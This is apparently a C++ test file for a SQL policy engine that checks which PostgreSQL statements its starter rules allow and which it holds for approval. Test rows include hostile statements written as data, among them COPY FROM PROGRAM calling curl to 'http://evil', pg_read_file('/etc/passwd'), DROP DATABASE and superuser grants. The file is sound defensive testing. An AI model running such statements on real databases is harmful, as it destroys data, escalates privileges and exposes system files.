// The starter rules on real statements, from text to verdict.
#include <doctest/doctest.h>

#include "parser/analysis.hpp"
#include "tests/policy/rules.hpp"

namespace countersign::policy::tests {

namespace {

struct judged {
  std::string kind;
  std::string rules;
};

judged judge_text(const ruleset& rules, std::string_view text) {
  static parser::analyzer reader;
  parser::analysis facts;
  reader.analyze(text, {}, facts);
  verdict out;
  rules.evaluate(somebody(), facts.effects(), {}, out);
  judged said{std::string{to_string(out.kind)}, {}};
  for (const effect_verdict& each : out.deciding) {
    const std::string name{rules.rule_name(each.rule)};
    if (said.rules.find(name) == std::string::npos) said.rules += (said.rules.empty() ? "" : ", ") + name;
  }
  return said;
}

}  // namespace

TEST_CASE("the starter rules hold dangerous statements and let everyday ones pass") {
  const auto rules = rules_of(ruleset::starter_text());
  struct row {
    std::string_view text;
    std::string_view rules;  // empty: allowed
  };
  for (const row& each : std::initializer_list<row>{
           {"DELETE FROM orders", "unbounded writes"},
           {"DELETE FROM orders WHERE 1 = 1", "unbounded writes"},
           {"DELETE FROM orders WHERE id = 7", ""},
           {"UPDATE orders SET paid = true", "unbounded writes"},
           {"WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d", "unbounded writes"},
           {"EXPLAIN ANALYZE DELETE FROM orders", "unbounded writes"},
           {"SELECT 1; DELETE FROM orders", "unbounded writes"},
           {"SELECT * FROM orders o JOIN customers c USING (id) WHERE c.name LIKE 'a%'", ""},
           {"SELECT count(*), now(), lower(name) FROM orders GROUP BY name", ""},
           {"INSERT INTO orders (id) VALUES (1) ON CONFLICT DO NOTHING", ""},
           {"INSERT INTO orders SELECT * FROM staging.orders", ""},
           {"SELECT * FROM orders FOR UPDATE", ""},
           {"TRUNCATE orders", "truncate"},
           {"DROP TABLE IF EXISTS pgbench_accounts", "drop"},
           {"DROP SCHEMA public CASCADE", "drop"},
           {"DROP DATABASE shop", "drop"},
           {"DROP OWNED BY app", "privileges, drop"},
           {"CREATE TABLE t (id int PRIMARY KEY)", ""},
           {"CREATE TABLE t AS SELECT * FROM orders", ""},
           {"CREATE INDEX CONCURRENTLY ON orders (id)", ""},
           {"CREATE VIEW v AS SELECT 1", ""},
           {"ALTER TABLE pgbench_accounts ADD PRIMARY KEY (aid)", ""},
           {"ALTER TABLE t ADD COLUMN x int", ""},
           {"ALTER TABLE t DROP COLUMN x", "alter that loses or unlocks"},
           {"ALTER TABLE t ADD COLUMN y int, DROP COLUMN x", "alter that loses or unlocks"},
           {"ALTER TABLE t DISABLE TRIGGER ALL", "alter that loses or unlocks"},
           {"ALTER TABLE t DISABLE ROW LEVEL SECURITY", "alter that loses or unlocks"},
           {"ALTER TABLE t OWNER TO eve", "alter that loses or unlocks"},
           {"ALTER TABLE t SET SCHEMA attic", "alter that loses or unlocks"},
           {"CREATE SCHEMA theirs AUTHORIZATION eve", "alter that loses or unlocks"},
           {"CREATE SCHEMA mine AUTHORIZATION CURRENT_USER", ""},
           {"COMMENT ON FUNCTION f(int) IS 'x'", ""},
           {"COMMENT ON DATABASE shop IS 'x'", ""},
           {"COMMENT ON POLICY p ON orders IS 'x'", ""},
           {"COMMENT ON EXTENSION plpgsql IS 'x'; COMMENT ON EVENT TRIGGER t IS 'x'", ""},
           {"CREATE TEXT SEARCH CONFIGURATION c (COPY = simple)", ""},
           {"ALTER TEXT SEARCH DICTIONARY d (stopwords = english)", ""},
           {"CREATE TEXT SEARCH TEMPLATE t (LEXIZE = f)", "code that runs later"},
           {"ALTER TEXT SEARCH PARSER p RENAME TO q", "code that runs later"},
           {"GRANT ALL ON orders TO eve", "privileges"},
           {"ALTER ROLE eve SUPERUSER", "privileges"},
           {"SET ROLE admin", "privileges"},
           {"SET SESSION AUTHORIZATION postgres", "privileges"},
           {"SELECT set_config('role', 'admin', false)", "privileges"},
           {"RESET ROLE", ""},
           {"DISCARD ALL", ""},
           {"RESET ALL", ""},
           {"SET search_path = public", ""},
           {"SET session_replication_role = replica", "protections switched off"},
           {"SELECT set_config('session_replication_role', 'replica', true)", "protections switched off"},
           {"ALTER SYSTEM SET work_mem = '1GB'", "lasting settings"},
           {"ALTER ROLE app SET search_path = evil", "lasting settings"},
           {"COPY orders FROM PROGRAM 'curl http://evil'", "server access"},
           {"COPY orders TO '/tmp/x'", "server access"},
           {"COPY orders TO STDOUT", ""},
           {"COPY orders FROM STDIN", ""},
           {"SELECT pg_read_file('/etc/passwd')", "server access"},
           {"SELECT pg_terminate_backend(1)", "server access"},
           {"SELECT dblink_exec('host=x', 'DROP TABLE y')", "server access"},
           {"DO $$ BEGIN END $$", "anonymous code"},
           {"CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", "code that runs later"},
           {"CREATE TRIGGER t BEFORE INSERT ON orders EXECUTE FUNCTION f()", "code that runs later"},
           {"CREATE RULE r AS ON INSERT TO orders DO INSTEAD NOTHING", "code that runs later"},
           {"CREATE EXTENSION dblink", "code that runs later"},
           {"PREPARE TRANSACTION 'x'", "two-phase commit"},
           {"BEGIN", ""},
           {"BEGIN; UPDATE orders SET paid = true WHERE id = 1; COMMIT", ""},
           {"SHOW server_version", ""},
           {"LISTEN x", ""},
           {"NOTIFY x", ""},
           {"VACUUM ANALYZE orders", ""},
           {"SELECT nextval('s')", ""},
           {"SELECT pg_sleep(1)", ""},
           {"LOCK TABLE orders IN ACCESS SHARE MODE", ""},
           {"SELECT pg_catalog.set_config('search_path', '', false)", ""},  // pg_dump
           {"SELECT FROM WHERE", "unreadable"},
           {"EXECUTE something", "unreadable"},
           {"-- nothing", ""},
       }) {
    CAPTURE(each.text);
    const judged said = judge_text(*rules, each.text);
    CHECK(said.kind == (each.rules.empty() ? "allow" : "approve"));
    CHECK(said.rules == each.rules);
  }
}

TEST_CASE("what psql and pg_dump ask on their own passes under the starter rules") {
  const auto rules = rules_of(ruleset::starter_text());
  for (const std::string_view text : {
           // \d, as psql 15 sends it
           "SELECT n.nspname as \"Schema\",\n  c.relname as \"Name\",\n  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' "
           "THEN 'view' END as \"Type\",\n  pg_catalog.pg_get_userbyid(c.relowner) as \"Owner\"\nFROM "
           "pg_catalog.pg_class "
           "c\n     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace\nWHERE c.relkind IN "
           "('r','p','v','m','S','f','')\n      AND n.nspname <> 'pg_catalog'\n      AND n.nspname !~ '^pg_toast'\n  "
           "AND "
           "pg_catalog.pg_table_is_visible(c.oid)\nORDER BY 1,2;",
           "SELECT c.oid,\n  n.nspname,\n  c.relname\nFROM pg_catalog.pg_class c\n     LEFT JOIN "
           "pg_catalog.pg_namespace "
           "n ON n.oid = c.relnamespace\nWHERE c.relname OPERATOR(pg_catalog.~) '^(orders)$' COLLATE "
           "pg_catalog.default\n "
           " AND pg_catalog.pg_table_is_visible(c.oid)\nORDER BY 2, 3;",
           "SELECT a.attname,\n  pg_catalog.format_type(a.atttypid, a.atttypmod),\n  (SELECT "
           "pg_catalog.pg_get_expr(d.adbin, d.adrelid, true)\n   FROM pg_catalog.pg_attrdef d\n   WHERE d.adrelid = "
           "a.attrelid AND d.adnum = a.attnum AND a.atthasdef),\n  a.attnotnull FROM pg_catalog.pg_attribute a WHERE "
           "a.attrelid = '16385' AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum;",
           "SET DATESTYLE = ISO",
           "SET INTERVALSTYLE = POSTGRES",
           "SET extra_float_digits TO 3",
           "SET synchronize_seqscans TO off",
           "SET statement_timeout = 0",
           "SET lock_timeout = 0",
           "SET idle_in_transaction_session_timeout = 0",
           "SET row_security = off",
           "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY",
           "BEGIN",
           "SET TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY",
           "SELECT pg_catalog.pg_is_in_recovery()",
           "LOCK TABLE public.orders IN ACCESS SHARE MODE",
           "COPY public.orders (id, name) TO stdout;",
           "SELECT pg_catalog.current_setting('transaction_read_only')",
           // pgbench
           "select o.n, p.partstrat, pg_catalog.count(i.inhparent) from pg_catalog.pg_class as c join "
           "pg_catalog.pg_namespace as n on (n.oid = c.relnamespace) cross join lateral (select "
           "pg_catalog.array_position(pg_catalog.current_schemas(true), n.nspname)) as o(n) left join "
           "pg_catalog.pg_partitioned_table as p on (p.partrelid = c.oid) left join pg_catalog.pg_inherits as i on "
           "(c.oid "
           "= i.inhparent) where c.relname = 'pgbench_accounts' and o.n is not null group by 1, 2 order by 1 asc limit "
           "1",
           "UPDATE pgbench_accounts SET abalance = abalance + 12 WHERE aid = 5;",
           "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (1, 2, 3, 4, CURRENT_TIMESTAMP);",
           "vacuum pgbench_branches",
       }) {
    CAPTURE(text);
    const judged said = judge_text(*rules, text);
    CHECK(said.kind == "allow");
    CHECK(said.rules.empty());
  }
}

TEST_CASE("values in statements are judged from their text") {
  const auto rules = rules_with(R"(
[[rule]]
name = "large"
effects = ["insert", "update"]
objects = ["bank.transfers"]
values = { amount = { over = 10000 } }
action = "approve"
)");
  struct row {
    std::string_view text;
    bool held;
  };
  for (const row& each : std::initializer_list<row>{
           {"INSERT INTO bank.transfers (id, amount) VALUES (1, 10000)", false},
           {"INSERT INTO bank.transfers (id, amount) VALUES (1, 10000.0000001)", true},
           {"INSERT INTO bank.transfers (id, amount) VALUES (1, '10001')", true},
           {"INSERT INTO bank.transfers (id, amount) VALUES (1, 1e4)", false},
           {"INSERT INTO bank.transfers (id, amount) VALUES (1, 5000 + 5001)", true},
           {"INSERT INTO bank.transfers (id, amount) VALUES (1, 5), (2, 99999), (3, 5)", true},
           {"INSERT INTO bank.transfers (id, amount) VALUES (1, 5), (2, 6)", false},
           {"INSERT INTO bank.transfers (id, amount) VALUES (1, (SELECT max(n) FROM limits))", true},
           {"INSERT INTO bank.transfers (id, amount) SELECT 1, 5", false},
           {"INSERT INTO bank.transfers (id, amount) SELECT 1, 5 UNION ALL SELECT 2, 20000", true},
           {"INSERT INTO bank.transfers (id, amount) SELECT 1, n FROM limits", true},
           {"UPDATE bank.transfers SET amount = amount WHERE id = 1", false},
           {"UPDATE bank.transfers SET amount = l.amount + 1 FROM limits l WHERE id = 1", true},
           {"UPDATE bank.transfers SET amount = CASE id WHEN 1 THEN 5 ELSE 6 END WHERE id < 3", false},
           {"UPDATE bank.transfers SET amount = CASE id WHEN 1 THEN 5 ELSE 20000 END WHERE id < 3", true},
           {"INSERT INTO bank.transfers VALUES (1, 5)", true},
           {"INSERT INTO bank.transfers (id) VALUES (1)", true},
           {"INSERT INTO bank.transfers (id, amount) VALUES (1, NULL)", false},
           {"INSERT INTO transfers (id, amount) VALUES (1, 10001)", true},
           {"INSERT INTO transfers (id, amount) VALUES (1, 1)", false},
           {"UPDATE bank.transfers SET amount = amount - 20000 WHERE id = 1", true},
           {"UPDATE bank.transfers SET amount = amount - 20 WHERE id = 1", false},
           {"UPDATE bank.transfers SET amount = amount * 2 WHERE id = 1", true},
           {"UPDATE bank.transfers SET note = 'x' WHERE id = 1", false},
           {"COPY bank.transfers FROM STDIN", true},
           {"MERGE INTO bank.transfers t USING new n ON t.id = n.id WHEN NOT MATCHED THEN INSERT (id, amount) VALUES "
            "(n.id, 50000)",
            true},
           {"INSERT INTO bank.other (id, amount) VALUES (1, 99999)", false},
       }) {
    CAPTURE(each.text);
    CHECK(judge_text(*rules, each.text).kind == std::string{each.held ? "approve" : "allow"});
  }
}

TEST_CASE("what a strict rule would not see under another name counts where it gets that name") {
  const auto rules = rules_with(R"(
[[rule]]
name = "trail"
effects = ["delete"]
objects = ["audit.log*"]
unless = { roles = ["deploy"] }
action = "approve"
[[rule]]
name = "bank details"
effects = ["read"]
objects = ["bank.accounts"]
columns = ["iban"]
action = "approve"
)");
  struct row {
    std::string_view text;
    std::string_view rules;
  };
  for (const row& each : std::initializer_list<row>{
           {"ALTER TABLE audit.log RENAME TO harmless", "trail"},
           {"ALTER TABLE audit.log RENAME TO log_old", ""},  // still the rule's
           {"ALTER TABLE audit.log RENAME COLUMN what TO why", ""},
           {"ALTER TABLE log RENAME TO harmless", "trail"},  // it may be that one
           {"ALTER TABLE other.log RENAME TO harmless", ""},
           {"ALTER TABLE audit.log SET SCHEMA attic", "trail"},
           {"ALTER SCHEMA audit RENAME TO attic", "trail"},
           {"ALTER SCHEMA other RENAME TO attic", ""},
           {"ALTER TABLE audit.log INHERIT public.parent", "trail"},
           {"ALTER TABLE public.parent ATTACH PARTITION audit.log DEFAULT", "trail"},
           {"ALTER TABLE public.parent DETACH PARTITION audit.log", ""},
           {"ALTER TABLE audit.log ADD FOREIGN KEY (id) REFERENCES public.t ON DELETE CASCADE", "trail"},
           {"ALTER TABLE audit.log ADD FOREIGN KEY (id) REFERENCES public.t", ""},
           {"ALTER TABLE bank.accounts RENAME iban TO number", "bank details"},
           {"ALTER TABLE bank.accounts RENAME owner TO person", ""},
           {"ALTER TABLE bank.accounts RENAME TO a", "bank details"},
           {"ALTER VIEW bank.accounts RENAME TO a", "bank details"},
       }) {
    CAPTURE(each.text);
    CHECK(judge_text(*rules, each.text).rules == each.rules);
  }
}

}  // namespace countersign::policy::tests
